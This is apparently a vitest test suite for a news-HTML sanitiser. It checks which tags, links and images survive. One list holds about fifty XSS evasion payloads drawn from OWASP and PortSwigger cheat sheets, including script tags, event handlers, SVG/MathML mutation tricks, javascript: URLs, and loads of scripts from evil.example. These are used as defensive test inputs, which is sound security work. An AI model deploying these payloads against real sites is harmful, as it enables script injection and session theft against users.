import { describe, expect, it } from "vitest";
import { sanitiseNews } from "./sanitise.ts";

const storage = "https://cdn.example/files/";
const clean = (html: string) => sanitiseNews(html, storage);
const link = (href: string) => `<a href="${href}" rel="noopener noreferrer nofollow" target="_blank">x</a>`;

describe("what a piece of news may hold", () => {
  it.each([
    "<h2>Заголовок</h2><h3>Ниже</h3><p>Текст<br />строка</p><hr />",
    "<p><strong>a</strong><b>b</b><em>c</em><i>d</i><u>e</u><s>f</s></p>",
    "<ul><li>один</li></ul><ol><li>два</li></ol><blockquote>слова</blockquote>",
    '<p><img src="/media/AbC-_123.webp" alt="Ель" /></p>',
    `<img src="${storage}AbC.webp" alt="" />`,
    "<p>1 &lt; 2 &amp; 3</p>",
    '<table><tbody><tr><th colspan="2"><p>День</p></th></tr><tr><td><p>1</p></td><td rowspan="3">2</td></tr></tbody></table>',
    "",
  ])("%s stays", (html) => {
    expect(clean(html)).toBe(html);
  });

  it.each([
    ["<h1>Имя</h1>", "<h2>Имя</h2>"],
    ["<div><span style='color:red' class=x id=y>текст</span></div>", "текст"],
    ["<p align=center onclick=alert(1)>текст</p>", "<p>текст</p>"],
    ["<p>не закрыт", "<p>не закрыт</p>"],
    [
      '<table style="width:9999px" onclick=x><colgroup><col style="width:1px"></colgroup><tr><td colspan=999999 rowspan=-1 width=5>1</td></tr></table>',
      "<table><tr><td>1</td></tr></table>",
    ],
    ["<!-- тайна --><p>x</p>", "<p>x</p>"],
    ["<b".repeat(20_000), ""],
  ])("%s becomes what may stay", (html, expected) => {
    expect(clean(html)).toBe(expected);
  });

  it.each([
    ["https://example.org/a?b=1#c", "https://example.org/a?b=1#c"],
    ["http://example.org", "http://example.org/"],
    ["https://пример.рф/имя", "https://xn--e1afmkfd.xn--p1ai/%D0%B8%D0%BC%D1%8F"],
    ["mailto:anna@example.org", "mailto:anna@example.org"],
    ["/newsfeed?x=1", "/newsfeed?x=1"],
    ["/../../stocks", "/stocks"],
    ["//example.org/x", "https://example.org/x"],
    [String.raw`/\example.org`, "https://example.org/"],
    ["https://example.org/&quot;onmouseover=&quot;alert(1)", "https://example.org/%22onmouseover=%22alert(1)"],
  ])("a link to %s is safe to follow", (href, expected) => {
    expect(clean(`<a href="${href}" target="_self" rel="opener" onclick="x()" style="x">x</a>`)).toBe(link(expected));
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " &#14; javascript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&#10;script:alert(1)",
    "java\0script:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "blob:https://example.org/1",
    "file:///etc/passwd",
    "ftp://example.org",
    "tel:+79001234567",
    "view-source:https://example.org",
    "https://",
    "newsfeed",
    "#top",
    "",
  ])("a link to %s leaves its text only", (href) => {
    expect(clean(`<p><a href="${href}">x <b>y</b></a></p>`)).toBe("<p>x <b>y</b></p>");
  });

  it.each([
    "https://evil.example/media/a.webp",
    "//evil.example/a.webp",
    "https://cdn.example/files/../x.webp",
    "https://cdn.example/files/a/b.webp",
    "https://cdn.example/filesx.webp",
    "/media/../api/auth/logout",
    "/media/%2e%2e/api.webp",
    "/media/a.svg",
    "/media/a.webp?x=1",
    "/api/token",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "javascript:alert(1)",
    "",
  ])("a picture from %s goes", (src) => {
    expect(clean(`<p>a<img src="${src}" alt="x">b</p>`)).toBe("<p>ab</p>");
  });

  it("of a picture keeps its place and its words", () => {
    const html =
      '<img src=/media/a.webp srcset="https://evil.example/x 2x" onerror=alert(1) alt=\'"><script>\' width=9>';
    expect(clean(html)).toBe('<img src="/media/a.webp" alt="&quot;&gt;&lt;script&gt;" />');
  });
});

/** OWASP, XSS Filter Evasion Cheat Sheet; PortSwigger, XSS cheat sheet; holes published of sanitisers. */
const attacks = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script\u000B>alert(1)</script>",
  "<script/src=data:,alert(1)>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>alert(1);//<</script>",
  "<script <b>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  '<img """><script>alert(1)</script>">',
  "<img src=`x`onerror=alert(1)>",
  "<img src='/media/a.webp'onerror='alert(1)'>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<math href=javascript:alert(1)>x</math>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe><img src=x onerror=alert(1)></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<applet code=x></applet>",
  "<base href=javascript:alert(1)//>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
  "<p style=\"background:url('javascript:alert(1)')\">",
  "<div style=width:expression(alert(1))>",
  "<form action=javascript:alert(1)><input type=submit><button formaction=javascript:alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<textarea><script>alert(1)</script></textarea>",
  "<title><script>alert(1)</script></title>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<select><option><script>alert(1)</script></option></select>",
  "<option>&lt;img src=x onerror=alert(1)&gt;</option>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<!--<img src='--><img src=x onerror=alert(1)>'>",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<custom-tag onclick=alert(1)>x</custom-tag>",
  "<a href='https://x.example' onmouseover=alert(1)>x</a>",
  "<a href=/\tx onclick=alert(1)>x</a>",
  "<p/onclick=alert(1)>x",
  "<p\u0000onclick=alert(1)>x",
  "<li onpointerrawupdate=alert(1) contenteditable>x",
];

describe("an attack", () => {
  it.each(attacks)("%s is harmless", (html) => {
    const result = clean(`<p>до</p>${html}`);
    expect(result).toMatch(/^<p>до<\/p>/);
    // Every tag that is left is one of ours, with attributes of ours; all else is text.
    const ours =
      /<\/?(?:h2|h3|p|br|hr|ul|ol|li|blockquote|strong|b|em|i|u|s)(?: \/)?>|<\/a>|<a href="(?:https?:\/\/|mailto:|\/)[^"<>]*" rel="noopener noreferrer nofollow" target="_blank">|<img src="\/media\/[\w-]+\.webp" alt="[^"<>]*" \/>/g;
    expect(result.replaceAll(ours, "")).not.toMatch(/[<>]/);
    expect(clean(result)).toBe(result);
  });

  it("by depth is cut off", () => {
    const deep = `${"<blockquote>".repeat(5000)}x${"</blockquote>".repeat(5000)}`;
    expect(clean(deep).split("<blockquote>").length).toBeLessThan(50);
    expect(clean(deep)).toContain("x");
  });
});
